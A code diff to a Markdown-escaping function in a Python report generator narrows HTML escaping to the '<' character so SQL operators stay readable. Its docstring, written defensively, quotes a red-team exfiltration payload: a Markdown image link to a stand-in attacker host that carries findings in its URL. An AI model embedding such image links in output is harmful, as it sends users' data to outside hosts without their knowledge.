@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import html
 from collections import defaultdict
 
 from ..models import DiscoveryResult, Insight, ValidationStatus
@@ -24,8 +23,9 @@ def _md(text: str) -> str:
     "<script>" reached the Markdown report and the Prefect artifact as a tag: session 23's red team), and no link or
     image (``![](https://e.vil/p.png?d=...)`` would have a viewer fetch a URL that carries the findings: red team
     10): backslashes, a bracket before a parenthesis and an image's ``![`` are escaped, so "[confirmed] share"
-    still reads as written in the file."""
-    text = html.escape(without_controls(text or ""), quote=False).replace("\\", "\\\\")
+    still reads as written in the file. Only ``<`` opens a tag: ``>`` and ``&`` stay as written, so that a count's
+    SQL reads ``refunded_at >= '2026-07-01'``, not ``&gt;=`` (a new user, session 27)."""
+    text = without_controls(text or "").replace("<", "&lt;").replace("\\", "\\\\")
     return text.replace("](", "\\](").replace("![", "!\\[").replace("|", "\\|").replace("\n", " ")
 
 
